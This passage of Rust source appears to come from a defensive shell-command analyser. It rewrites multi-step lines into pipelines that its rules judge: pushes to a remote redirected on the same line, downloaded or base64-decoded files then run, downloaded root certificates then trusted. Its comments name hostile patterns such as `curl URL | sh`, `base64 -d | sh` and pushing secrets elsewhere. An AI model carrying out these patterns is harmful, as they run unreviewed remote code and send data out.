                        for entry in staged.iter_mut() {
                            if argv.iter().skip(2).any(|w| stages(w, &entry.0)) {
                                entry.2 = true;
                            }
                        }
                    }
                    // `remote add N URL` and `remote set-url N URL`: either way, a push to
                    // `N` later on the line goes to URL.
                    Some("remote")
                        if sub.get(1).is_some_and(|s| *s == "add" || *s == "set-url") =>
                    {
                        if let (Some(n), Some(u)) = (sub.get(2), sub.get(3)) {
                            remotes.push(((*n).clone(), (*u).clone()));
                        }
                    }
                    // `config remote.N.url URL` (or `.pushurl`) does the same.
                    Some("config") => {
                        let key = sub.get(1).and_then(|k| k.strip_prefix("remote."));
                        let name = key.and_then(|k| {
                            k.strip_suffix(".url")
                                .or_else(|| k.strip_suffix(".pushurl"))
                        });
                        if let (Some(n), Some(u)) = (name, sub.get(2)) {
                            remotes.push((n.to_string(), (*u).clone()));
                        }
                    }
                    Some("push") => {
                        for (path, s, _) in staged.iter().filter(|e| e.2) {
                            let label = format!(
                                "`{path}`, a copy of {} made earlier on the line, committed and pushed",
                                s.describe()
                            );
                            self.pipe_pair(s, c, &label, &mut added);
                        }
                        // A remote the line adds: the push goes to its URL.
                        if let Some((at, (_, url))) =
                            argv.iter().enumerate().skip(2).find_map(|(k, w)| {
                                remotes.iter().find(|(n, _)| n == w).map(|r| (k, r))
                            })
                        {
                            let label = format!("`{}`, a remote added on the line", argv[at]);
                            added.push(replaced(c, at, &argv[at], url, &label));
                        } else if sub.len() == 1
                            && let Some((_, url)) = remotes.iter().find(|(n, _)| n == "origin")
                        {
                            // A bare `git push` goes to `origin`, pointed elsewhere on the line.
                            let mut to = argv.clone();
                            to.push(url.clone());
                            let label = "`origin`, pointed elsewhere on the line";
                            let mut part = synthetic(to, c, label);
                            part.pipeline = c.pipeline;
                            added.push(part);
                        }
                    }
                    _ => {}
                }
            }
            // Downloads into a file or a directory, then that file (or one in it) run: as
            // `curl URL | sh` (as root: `curl URL | sudo sh`), so the KG's download entries and
            // the download host's rule judge it.
            if let Some(d) = Download::of(&name, argv) {
                downloaded.extend(d.files.into_iter().map(|f| (f, d.url.clone())));
                downloaded_dirs.extend(d.dirs.into_iter().map(|f| (f, d.url.clone())));
            }
            // Text decoded or decompressed into a file, then that file run: as `base64 -d |
            // sh`, so the KG's entries for unreadable code judge it.
            if unreadable_writer(argv) {
                for w in &writes {
                    decoded.push((w.clone(), argv.clone()));
                }
            }
            if let Some((file, decoder)) = runs_file(c).and_then(|f| {
                let (_, d) = decoded.iter().find(|(d, _)| norm(d) == norm(f))?;
                Some((f, d.clone()))
            }) {
                let label = format!("`{file}`, decoded earlier on the line, run");
                let p = self.next_pipeline;
                self.next_pipeline += 1;
                let mut decode = synthetic(decoder, c, &label);
                decode.pipeline = Some((p, 0));
                let mut run = synthetic(vec!["sh".into()], c, &label);
                run.pipeline = Some((p, 1));
                added.extend([decode, run]);
            }
            // A certificate downloaded on the line, then installed as a root of the machine's
            // trust stores: as `curl URL | mkcert -install`, which `downloaded root certificate
            // trusted` judges.
            if let Some((file, url)) = trusts_file(c).and_then(|t| {
                downloaded
                    .iter()
                    .find(|(d, _)| is_or_holds(t, d))
                    .or_else(|| downloaded_dirs.iter().find(|(d, _)| norm(d) == norm(t)))
                    .map(|(d, u)| (d.clone(), u.clone()))
            }) {
                let label = format!("`{file}`, downloaded earlier on the line, trusted as a root");
                let p = self.next_pipeline;
                self.next_pipeline += 1;
                let mut fetch_argv = vec!["curl".to_string()];
                fetch_argv.extend(url);
                let mut fetch = synthetic(fetch_argv, c, &label);
                fetch.pipeline = Some((p, 0));
                let mut trust = synthetic(c.argv.clone(), c, &label);
                trust.pipeline = Some((p, 1));
                added.extend([fetch, trust]);
            }
            let root = as_root(c);
            let run = if root { root_runs(c) } else { runs_file(c) };
            let found = run
                .and_then(|f| {
                    let (_, url) = downloaded
                        .iter()
                        .find(|(d, _)| norm(d) == norm(f))
                        .or_else(|| downloaded_dirs.iter().find(|(d, _)| lies_under(f, d)))?;
                    Some((f.to_string(), url.clone()))
                })
                .or_else(|| {
                    let assets = unity_assets(c)?;
                    downloaded
                        .iter()
                        .find(|(d, _)| lies_under(d, &assets))
                        .map(|(d, url)| (d.clone(), url.clone()))
                });
            // A file of the user's Downloads directory run (a script given to its interpreter,
            // a program started, Blender's `-P`, `java -jar`, an editor's extension): code
            // fetched from somewhere earlier that nobody on the line reviewed, judged as `sh
            // FILE` there, which `downloaded file run` denies.
            if found.is_none()
                && let Some(file) = run.filter(|f| in_downloads(f))
            {
                let label = format!("`{file}`, a file of the user's Downloads directory, run");
                added.push(synthetic(vec!["sh".into(), file.to_string()], c, &label));
            }
            if let Some((file, runner)) = found {
                let label = if root {
                    format!("`{file}`, downloaded earlier on the line, run as root")
                } else {
                    format!("`{file}`, downloaded earlier on the line, run")
                };
                let p = self.next_pipeline;
                self.next_pipeline += 1;
                let mut fetch_argv = vec!["curl".to_string()];
                fetch_argv.extend(runner);
                let mut fetch = synthetic(fetch_argv, c, &label);
                fetch.pipeline = Some((p, 0));
                let run_argv = if root {
                    vec![c.argv[0].clone(), "sh".into()]
                } else {
                    vec!["sh".into()]
                };
                let mut run = synthetic(run_argv, c, &label);
                run.pipeline = Some((p, 1));
                added.extend([fetch, run]);
            }
        }
        drop(no_secret);
        self.out.commands = cmds;
        self.out.commands.extend(added);
        self.follow_planted_hooks(0);
        self.follow_name_kills();
    }

    /// `SOURCE | COMMAND`: the secret's read piped into a clone of `c`.
    fn pipe_pair(
        &mut self,
        s: &Source,
        c: &SimpleCommand,
        label: &str,
        added: &mut Vec<SimpleCommand>,
    ) {
        let p = self.next_pipeline;
        self.next_pipeline += 1;
        let mut read = synthetic(s.argv(), c, label);
        read.pipeline = Some((p, 0));
        let mut send = c.clone();
        send.layers.push(label.to_string());
        send.pipeline = Some((p, 1));
        send.flow = None;
        send.into = None;
        // The send first: among parts of one verdict the first one's reason is shown.
        added.push(send);
        added.push(read);
    }
}

/// A part of its own with `argv`, from `c`'s text and layers.
pub(super) fn synthetic(argv: Vec<String>, c: &SimpleCommand, label: &str) -> SimpleCommand {
    let mut layers = c.layers.clone();
    layers.push(label.to_string());
    SimpleCommand {
        words: canon::canonical_words(&argv, &[]),
        appends: 0,
        text: c.text.clone(),
        layers,
        pipeline: None,
        findings: Vec::new(),
        stdin_text: None,
        argv,
        runner: None,
        flow: None,
        into: None,
        option_code: c.option_code,
        std_socket: c.std_socket,
        env: c.env.clone(),
    }
}

/// A clone of `c` with `path` in its word `at` replaced by `by`.
fn replaced(c: &SimpleCommand, at: usize, path: &str, by: &str, label: &str) -> SimpleCommand {
    let mut argv = c.argv.clone();
    if let Some(prefix) = names(&argv[at], path) {
        argv[at] = format!("{prefix}{by}");
    }
    let redirects: Vec<String> = c
        .words
        .iter()
        .filter(|w| w.kind == WordKind::Redirect)
        .map(|w| w.text.trim_start_matches('>').to_string())
        .collect();
    let mut part = synthetic(argv, c, label);
    part.words = canon::canonical_words(&part.argv, &redirects);
    part.pipeline = c.pipeline;
    part.flow = None;
    part.into = None;
    part
}
